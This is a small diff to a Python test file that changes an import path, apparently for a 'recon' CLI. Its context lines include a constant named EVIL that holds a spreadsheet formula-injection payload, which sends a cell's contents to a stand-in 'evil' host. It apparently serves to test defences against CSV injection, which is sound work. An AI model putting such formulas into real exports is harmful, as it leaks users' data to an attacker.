@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from cli.main import main
+from recon.cli.main import main
 from tests.app.demo_warehouse import Warehouse, make_warehouse
 
 EVIL = '=HYPERLINK("http://evil/x?"&A2,"Click for details")'
